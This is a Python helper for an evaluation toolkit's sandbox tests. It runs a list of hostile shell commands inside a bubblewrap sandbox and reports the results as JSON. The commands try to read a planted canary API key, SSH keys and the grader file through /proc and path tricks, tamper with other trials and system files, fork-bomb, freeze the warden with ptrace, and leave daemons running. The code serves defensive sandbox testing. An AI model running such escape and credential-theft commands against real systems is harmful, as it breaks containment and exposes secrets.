"""A runner that lets hostile commands loose in a sandbox and prints what came of each as JSON; `test_parts_sandbox` starts it as two users.

It is a program of its own so that it can be an ordinary user, and so that its environment can hold a key that nobody may find.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path
from typing import Any

from evalkit.core.sandbox import Sandbox
from evalkit.parts._bounds import Bounds
from evalkit.parts._process import Finished, Limits, surroundings
from evalkit.parts._sandbox import Boxed, Cell, open_cell

KEY = "sk-ant-canary-4b5c6d7e8f"
MARK = "98765.4321"
"""Seconds that hostile background processes sleep: by it they are found on the machine."""

HELD = Sandbox(kind="bubblewrap")

CONNECT = """
import socket
for kind, place in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "\\0{abstract}"), (socket.AF_UNIX, "{named}")):
    try:
        with socket.socket(kind, socket.SOCK_STREAM) as one:
            one.settimeout(2)
            one.connect(place)
            print("GOT", place)
    except OSError as error:
        print(error)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"x", ("192.0.2.1", 53))
        print("GOT out")
except OSError as error:
    print(error)
"""
DAEMON = f"""
import os
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
os.chdir("/")
os.execve("/bin/sleep", ["sleep", "{MARK}"], {{}})
"""
FREEZE = """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
print("ptrace", libc.ptrace(16, 1, 0, 0), flush=True)
time.sleep(60)
"""
SPREAD = """
import os, time
for depth in range(8):
    os.fork()
time.sleep(20)
"""
THREADS = """
import threading, time
for _ in range(200):
    threading.Thread(target=time.sleep, args=(20,)).start()
"""

QUIET = {
    "a variable": "env; cat /proc/self/environ /proc/1/environ",
    "the runner's environ": "cat /proc/{runner}/environ /proc/{runner}/cmdline /proc/*/environ",
    "the runner's memory": "cat /proc/{runner}/maps /proc/{runner}/mem && echo GOT",
    "the runner's files": "ls -l /proc/{runner}/fd /proc/{runner}/root/ && echo GOT",
    "an absolute path": "cat {secret} {home}/.ssh/id {suite}/grader.py",
    "a way upwards": "cat ../secret ../../secret ../../../{secret}; cd ..; ls -R .. | grep secret && echo GOT",
    "a link": "ln -s {secret} link; ln -s {suite} folder; cat link folder/grader.py",
    "a hard link": "ln {secret} hard && echo GOT; cat hard",
    "another trial's workspace": "cat {sibling}/answer; ls {sibling}/..; echo x > {sibling}/planted && echo GOT",
    "the runner's home": "ls -a {home}; echo x >> {home}/.bashrc && echo GOT; cat ~root/.bashrc ~/.ssh/id",
    "the system": "for one in /usr /etc /bin /; do touch $one/evalkit-planted && echo GOT; done",
    "a device": "mknod disk b 8 0 && echo GOT; ls /dev/mem /dev/kmsg /dev/sd* /dev/vd* && echo GOT",
    "a mount": "mount -t tmpfs none /mnt && echo GOT; unshare -Ur sh -c 'mount -o remount,rw /usr && touch /usr/evalkit-planted && echo GOT'",
    "a setting of the kernel": "echo 1 > /proc/sys/vm/drop_caches && echo GOT; echo h > /proc/sysrq-trigger && echo GOT",
    "a network": f"cat > connect.py << 'END'{CONNECT}END\npython3 connect.py",
    "a name of 300 characters": "touch $(printf 'a%.0s' $(seq 300)) && echo GOT; mkdir $(printf 'b%.0s' $(seq 300)) && echo GOT",
}
"""What each command tries to get; it got nothing where neither the key, nor a secret, nor GOT is in its output."""


class Attack:
    """Hostile commands in one trial after the other."""

    def __init__(self, root: Path) -> None:
        """Lay out what is to be found: a suite, a home, another trial's workspace, listeners."""
        self.root = root
        for name in ("suite", "home/.ssh", "sibling/1"):
            (root / name).mkdir(parents=True)
        for name in ("secret", "suite/grader.py", "home/.ssh/id", "sibling/1/answer"):
            (root / name).write_text(KEY)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.abstract = f"evalkit-{os.getpid()}"
        self.others = [socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
        for one, place in zip(self.others, (f"\0{self.abstract}", str(root / "named")), strict=True):
            one.bind(place)
            one.listen()
        self.words = {
            "runner": os.getpid(),
            "secret": root / "secret",
            "suite": root / "suite",
            "home": root / "home",
            "sibling": root / "sibling" / "1",
            "port": self.listener.getsockname()[1],
            "abstract": self.abstract,
            "named": root / "named",
        }
        self.made = 0

    def folders(self) -> tuple[Path, Path]:
        """The workspace and the temporary folder of a new trial."""
        self.made += 1
        home, temporary = self.root / f"trial-{self.made}" / "1", self.root / f"trial-{self.made}" / "2"
        home.mkdir(parents=True)
        temporary.mkdir()
        return home, temporary

    def trial(self, *commands: str, most: int | None = None, **limits: Any) -> list[dict[str, Any]]:
        """Run commands in the sandbox of one trial."""
        home, temporary = self.folders()
        with open_cell(HELD, folders=(home,), temporary=temporary, linger=True) as cell:
            if most is not None and isinstance(cell, Boxed):
                cell.bounds = Bounds(processes=most)
            return [told(self.sh(cell, home, temporary, one, **limits)) for one in commands]

    def sh(self, cell: Cell, home: Path, temporary: Path, command: str, **limits: Any) -> Finished:
        """Run a shell command."""
        variables = surroundings(home, temporary)
        bounds = Limits(**{"seconds": 20.0, "output": 200_000, "file": 1_000_000, **limits})
        return cell.run(("/bin/sh", "-c", command), folder=home, variables=variables, limits=bounds)

    def all(self) -> dict[str, Any]:
        """Try everything."""
        found: dict[str, Any] = {}
        for name, command in QUIET.items():
            for word, value in self.words.items():
                command = command.replace("{" + word + "}", str(value))  # noqa: PLW2901  # filled in step by step
            found[name] = self.trial(command)
        found["killing the runner"] = self.trial(
            f"kill -9 {os.getpid()}; kill -9 1; kill -STOP 1; echo on", "echo still on"
        )
        found["killing all"] = self.trial("kill -9 -1", "echo still on")
        found["many processes"] = self.trial(f"python3 -c '{SPREAD}'", "echo still on", most=60)
        found["many threads"] = self.trial(f"python3 -c '{THREADS}'", "echo still on", most=60)
        found["endless output"] = self.trial("yes")
        found["endless loop"] = self.trial("trap '' TERM; while :; do :; done", seconds=0.5)
        found["a huge file"] = self.trial("head -c 3000000 /dev/zero > big; stat -c %s big")
        found["much memory"] = self.trial("python3 -c 'bytearray(1500000000)'", memory=1_000_000_000)
        found["a frozen warden"] = self.trial(f"python3 -c '{FREEZE}'", "echo still on", seconds=1.0)
        found["daemons"] = self.trial(
            f"python3 -c '{DAEMON}'; setsid sh -c 'trap \"\" TERM HUP; sleep {MARK}' > /dev/null 2>&1 & sleep 0.2; echo started",
            f"pgrep -fc 'sleep {MARK}'",
        )
        found["daemons left"] = asleep()
        found["traces"] = self.traces()
        found["planted"] = [
            str(one)
            for one in (
                self.root / "sibling" / "1" / "planted",
                self.root / "home" / ".bashrc",
                Path("/usr/evalkit-planted"),
            )
            if one.exists()
        ]
        return found

    def traces(self) -> list[dict[str, Any]]:
        """What a trial leaves wherever it can write, and what the next one finds of it."""
        places = "$HOME /tmp /var/tmp /dev/shm $TMPDIR"
        leave = (
            f"for one in {places}; do echo TRACE-$$ > $one/TRACE; done; (sleep {MARK} &) > /dev/null 2>&1; echo left"
        )
        look = f"for one in {places} /; do ls $one; done; ps ax -o args; cat /proc/*/environ"
        return [*self.trial(leave), *self.trial(look)]


def asleep() -> int:
    """How many processes of the machine sleep for so long, once they had a moment to end."""
    for _ in range(200):
        found = 0
        for process in Path("/proc").glob("[0-9]*"):
            try:
                words = (process / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            found += words[:2] == [b"sleep", MARK.encode()]
        if not found:
            return 0
        time.sleep(0.01)
    return found


def told(done: Finished) -> dict[str, Any]:
    """What came of a command."""
    return {"code": done.code, "ended": done.ended, "text": done.text[:20_000], "size": len(done.output)}


def main() -> None:
    """Attack, or (`linger`) leave a process in a sandbox and wait to be killed, the warden frozen (`freeze`)."""
    os.environ["ANTHROPIC_API_KEY"] = KEY
    root = Path(tempfile.mkdtemp(prefix="evalkit-attack-"))
    try:
        attack = Attack(root)
        if sys.argv[1] == "all":
            print(json.dumps(attack.all()))  # noqa: T201  # read by the test
            return
        home, temporary = attack.folders()
        cell = open_cell(HELD, folders=(home,), temporary=temporary, linger=True)
        attack.sh(cell, home, temporary, f"(sleep {MARK} &) > /dev/null 2>&1")
        if sys.argv[1] == "freeze":
            (home / "freeze.py").write_text(textwrap.dedent(FREEZE))
            words = (cell, home, temporary, "python3 freeze.py > frozen")
            threading.Thread(target=attack.sh, args=words, daemon=True).start()
            while not (home / "frozen").exists() or "ptrace 0" not in (home / "frozen").read_text():
                time.sleep(0.01)
        print(root, flush=True)  # noqa: T201  # read by the test
        time.sleep(60)
    finally:
        shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    main()
